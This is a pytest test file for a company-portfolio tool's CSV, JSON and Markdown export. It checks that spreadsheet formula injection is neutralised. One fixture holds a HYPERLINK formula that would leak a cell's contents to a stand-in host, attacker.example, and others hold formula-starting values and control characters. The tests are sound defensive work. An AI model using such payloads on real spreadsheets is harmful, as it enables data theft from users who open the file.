"""Export: CSV with latest score and verdict (formula-safe), full-fidelity JSON, Markdown memos."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from store.exporting import CSV_COLUMNS, FORMULA_STARTS, companies_csv, safe_cell
from store.service import Workbench
from tests.store.conftest import PERFECT, STARTER_COUNT, Fingerprint, assert_one_line_error

HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A1,"deck")'


@pytest.fixture
def portfolio(db_path: Path) -> dict[str, str]:
    """A seeded database with annotated companies, some of them hostile to spreadsheets."""
    bench = Workbench.open(db_path, author="tester")
    try:
        helio = bench.add_company(
            "Helio Fathom",
            layer="power",
            one_liner="Immersion cooling tanks for dense GPU racks.",
            website="heliofathom.io",
            tags=["cooling", "Q4"],
            headquarters="Reno, Nevada",
            founded_year=2021,
            stage="Series A",
        )
        bench.add_note(helio.id, "First call: **strong** thermal IP.\n\n- ask about gross margin")
        bench.record_run(helio.id, {"A1": {"answer": "y", "evidence": "waitlist of 40 MW"}})
        bench.record_run(
            helio.id, {**PERFECT, "A2": {"answer": "y", "evidence": "PUE 1.03 at a pilot"}}
        )
        bench.set_status([helio.id], "passed", reason="@valuation too high for the stage")
        trap = bench.add_company(
            HYPERLINK,
            layer="data",
            one_liner="+1 555 0100 is the number on their deck",
            tags=["-watch"],
            headquarters="-",
            kill_criterion="=IF(1,2)",
        )
        minus = bench.add_company("-2+3", layer="data", absorber="@Snowflake", upstream="+AWS")
        quarry = bench.add_company("Quarry Optics", layer="network", tags=["optics", "q4"])
        bench.set_status([quarry.id], "watching")
        bench.record_run(
            quarry.id,
            {
                "A1": "n",
                "A2": "n",
                "A3": "n",
                "C1": "y",
                "B1": "p",
                "B2": "p",
                "B3": "p",
                "B4": "p",
                "C2": "y",
            },
        )
        return {"helio": helio.id, "trap": trap.id, "minus": minus.id, "quarry": quarry.id}
    finally:
        bench.close()


def stored(db_path: Path) -> dict[str, Any]:
    return json.loads(db_path.read_bytes())


def export(cli, db_path: Path, *options: str):
    return cli("export", "--db", str(db_path), *options)


def listed_ids(cli, db_path: Path, *filters: str) -> list[str]:
    result = cli("list", "--format", "json", "--db", str(db_path), *filters)
    assert result.code == 0, result.err
    return [row["id"] for row in json.loads(result.out)]


# CSV --------------------------------------------------------------------------------------


def test_csv_has_one_row_per_company_with_its_latest_score_and_verdict(
    cli, db_path: Path, portfolio: dict[str, str], tmp_path: Path
) -> None:
    target = tmp_path / "companies.csv"
    result = export(cli, db_path, "--format", "csv", "--output", str(target))
    assert result.code == 0, result.err
    total = STARTER_COUNT + 4
    assert result.err == f"Exported {total} companies to {target}.\n"
    assert result.out == ""
    rows = list(csv.DictReader(io.StringIO(target.read_bytes().decode("utf-8"), newline="")))
    assert list(rows[0]) == CSV_COLUMNS
    assert len(rows) == total
    assert len({row["id"] for row in rows}) == total
    by_id = {row["id"]: row for row in rows}
    helio = by_id[portfolio["helio"]]
    # Two runs: the second (perfect) one is the company's current score and verdict.
    assert (helio["score"], helio["verdict"], helio["coverage"]) == ("100", "Anchor", "100%")
    assert (helio["status"], helio["pass_reason"]) == (
        "passed",
        "'@valuation too high for the stage",
    )
    assert (helio["tags"], helio["notes"], helio["layer"]) == ("cooling, Q4", "1", "power")
    assert helio["website"] == "https://heliofathom.io" and helio["founded_year"] == "2021"
    quarry = by_id[portfolio["quarry"]]
    assert quarry["verdict"] == "Leaks value" and quarry["status"] == "watching"
    unscored = by_id[portfolio["minus"]]
    assert (unscored["score"], unscored["verdict"], unscored["coverage"], unscored["scored"]) == (
        "",
        "",
        "",
        "",
    )


def test_csv_cells_are_never_formulas(cli, db_path: Path, portfolio: dict[str, str]) -> None:
    result = export(cli, db_path, "--format", "csv")
    assert result.code == 0, result.err
    rows = list(csv.reader(io.StringIO(result.out)))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell
    by_id = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    trap = by_id[portfolio["trap"]]
    # Neutralised with a leading apostrophe: the text is all still there, shown as text.
    assert trap["name"] == "'" + HYPERLINK
    assert trap["one_liner"] == "'+1 555 0100 is the number on their deck"
    assert (trap["tags"], trap["headquarters"], trap["kill_criterion"]) == (
        "'-watch",
        "'-",
        "'=IF(1,2)",
    )
    minus = by_id[portfolio["minus"]]
    assert (minus["name"], minus["absorber"], minus["upstream"]) == (
        "'-2+3",
        "'@Snowflake",
        "'+AWS",
    )


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t"])
def test_safe_cell_neutralises_every_formula_start(start: str) -> None:
    assert safe_cell(f"{start}SUM(A1:A3)") == f"'{start}SUM(A1:A3)"


@pytest.mark.parametrize("hidden", ["\r", "\x1b[2J", "\x00", "\u202e"])
def test_safe_cell_removes_control_characters_before_it_looks_for_a_formula(hidden: str) -> None:
    """What a terminal or a spreadsheet would act on is gone, and a formula behind it
    is still neutralised."""
    assert safe_cell(f"{hidden}=SUM(A1:A3)") == "'=SUM(A1:A3)"
    assert safe_cell(f"Sum{hidden}mit") == "Summit"


def test_safe_cell_leaves_ordinary_text_alone() -> None:
    assert safe_cell("Helio Fathom") == "Helio Fathom"
    assert safe_cell("a=b") == "a=b"
    assert safe_cell(None) == "" and safe_cell(42) == "42"


def test_csv_of_raw_records_neutralises_tab_and_removes_carriage_return() -> None:
    record = {
        "id": "co-1",
        "name": "\t=1+1",
        "one_liner": "\r@x",
        "tags": ["+t", "a\rb"],
        "notes": [],
    }
    text = companies_csv([record], {})
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 2  # a carriage return inside a cell is removed, so it never splits the row
    row = dict(zip(rows[0], rows[1], strict=True))
    assert (row["name"], row["one_liner"], row["tags"]) == ("'\t=1+1", "'@x", "'+t, ab")


def test_csv_to_stdout_matches_the_file(
    cli, db_path: Path, portfolio: dict[str, str], tmp_path: Path
) -> None:
    target = tmp_path / "out.csv"
    to_file = export(cli, db_path, "--format", "csv", "--output", str(target))
    to_stdout = export(cli, db_path, "--format", "csv")
    assert to_file.code == to_stdout.code == 0
    assert to_stdout.out.encode() == target.read_bytes()
    assert (
        target.read_bytes().count(b"\r\n") == STARTER_COUNT + 5
    )  # RFC 4180 rows: header + companies
    assert to_stdout.err == ""


# JSON -------------------------------------------------------------------------------------


def test_json_has_every_field_of_every_company_run_and_layer(
    cli, db_path: Path, portfolio: dict[str, str], tmp_path: Path
) -> None:
    target = tmp_path / "everything.json"
    result = export(cli, db_path, "--format", "json", "--output", str(target))
    assert result.code == 0, result.err
    document = json.loads(target.read_bytes())
    assert document["moatscope_export"] == 1
    assert document["schema_version"] == stored(db_path)["meta"]["schema"]["schema_version"]
    tables = stored(db_path)
    assert {c["id"]: c for c in document["companies"]} == tables["companies"]
    assert {r["id"]: r for r in document["runs"]} == tables["runs"]
    assert {layer["id"]: layer for layer in document["layers"]} == tables["layers"]
    helio = next(c for c in document["companies"] if c["id"] == portfolio["helio"])
    assert helio["notes"][0]["body"].startswith("First call: **strong** thermal IP.")
    assert helio["pass_reason"] == "@valuation too high for the stage"  # JSON is not neutralised


# Markdown ---------------------------------------------------------------------------------


def test_markdown_memos_in_one_file(cli, db_path: Path, portfolio: dict[str, str]) -> None:
    result = export(cli, db_path, "--format", "md", "--layer", "power")
    assert result.code == 0, result.err
    memos = result.out.split("\n\n---\n\n")
    power = listed_ids(cli, db_path, "--layer", "power")
    assert len(memos) == len(power)
    helio = next(memo for memo in memos if memo.startswith("# Helio Fathom\n"))
    assert "Immersion cooling tanks for dense GPU racks." in helio
    assert "- **Status:** passed (@valuation too high for the stage)" in helio
    assert "- **Tags:** cooling, Q4" in helio
    assert "## Moat checklist" in helio and "**Anchor** · score 100" in helio
    assert "PUE 1.03 at a pilot" in helio  # the latest run's evidence
    assert "## Notes" in helio and "First call: **strong** thermal IP." in helio
    assert "- ask about gross margin" in helio


def test_markdown_memos_one_file_per_company_in_a_folder(
    cli, db_path: Path, portfolio: dict[str, str], tmp_path: Path
) -> None:
    bench = Workbench.open(db_path, author="tester")
    try:
        bench.add_company("Acme AI", layer="network")
        bench.add_company("Acme-AI", layer="network")  # another company, the same file name
    finally:
        bench.close()
    folder = tmp_path / "memos"
    folder.mkdir()
    result = export(cli, db_path, "--format", "md", "--layer", "network", "--output", str(folder))
    assert result.code == 0, result.err
    network = listed_ids(cli, db_path, "--layer", "network")
    files = sorted(folder.iterdir())
    assert len(files) == len(network)
    assert result.err == f"Wrote {len(network)} memos into {folder}.\n"
    assert (folder / "quarry-optics.md").read_text(encoding="utf-8").startswith("# Quarry Optics\n")
    acme = [path for path in files if path.name.startswith("acme-ai")]
    assert len(acme) == 2
    assert sorted(path.read_text(encoding="utf-8").splitlines()[0] for path in acme) == [
        "# Acme AI",
        "# Acme-AI",
    ]
    for path in files:
        assert path.suffix == ".md"
        assert path.read_text(encoding="utf-8").startswith("# ")


# Filters ----------------------------------------------------------------------------------


def _exported_ids(fmt: str, output: str, portfolio: dict[str, str], db_path: Path) -> list[str]:
    if fmt == "csv":
        return [row["id"] for row in csv.DictReader(io.StringIO(output))]
    if fmt == "json":
        return [company["id"] for company in json.loads(output)["companies"]]
    bench = Workbench.open(db_path, read_only=True)
    try:
        names = [
            memo.split("\n", 1)[0].removeprefix("# ")
            for memo in output.split("\n\n---\n\n")
            if memo
        ]
        return [bench.find(name).id for name in names]
    finally:
        bench.close()


@pytest.mark.parametrize("fmt", ["csv", "json", "md"])
@pytest.mark.parametrize(
    "filters",
    [
        ("--layer", "network"),
        ("--status", "passed"),
        ("--tag", "q4"),
        ("--tag", "starter", "--layer", "compute"),
    ],
    ids=["layer", "status", "tag", "tag+layer"],
)
def test_filters_select_the_same_companies_as_list(
    cli, db_path: Path, portfolio: dict[str, str], fmt: str, filters: tuple[str, ...]
) -> None:
    result = export(cli, db_path, "--format", fmt, *filters)
    assert result.code == 0, result.err
    expected = listed_ids(cli, db_path, *filters)
    assert expected, filters
    assert sorted(_exported_ids(fmt, result.out, portfolio, db_path)) == sorted(expected)
    if filters == ("--tag", "q4"):
        assert sorted(expected) == sorted([portfolio["helio"], portfolio["quarry"]])


@pytest.mark.parametrize(
    ("options", "message"),
    [
        (("--layer", "quantum"), "no layer 'quantum'"),
        (("--status", "maybe"), "Unknown status 'maybe'"),
    ],
)
def test_bad_filters_are_refused_in_one_line(
    cli,
    db_path: Path,
    portfolio: dict[str, str],
    tmp_path: Path,
    options: tuple[str, ...],
    message: str,
) -> None:
    before = Fingerprint.of(db_path)
    target = tmp_path / "never.csv"
    result = export(cli, db_path, "--format", "csv", "--output", str(target), *options)
    assert_one_line_error(result, message)
    assert not target.exists()
    assert Fingerprint.of(db_path) == before


def test_unwritable_output_is_one_line(
    cli, db_path: Path, portfolio: dict[str, str], tmp_path: Path
) -> None:
    result = export(
        cli, db_path, "--format", "json", "--output", str(tmp_path / "no" / "such" / "dir.json")
    )
    assert_one_line_error(result, "Cannot write")


def test_export_leaves_the_database_untouched(
    cli, db_path: Path, portfolio: dict[str, str], tmp_path: Path
) -> None:
    before = Fingerprint.of(db_path)
    for fmt in ("csv", "json", "md"):
        assert (
            export(cli, db_path, "--format", fmt, "--output", str(tmp_path / f"x.{fmt}")).code == 0
        )
    assert Fingerprint.of(db_path) == before
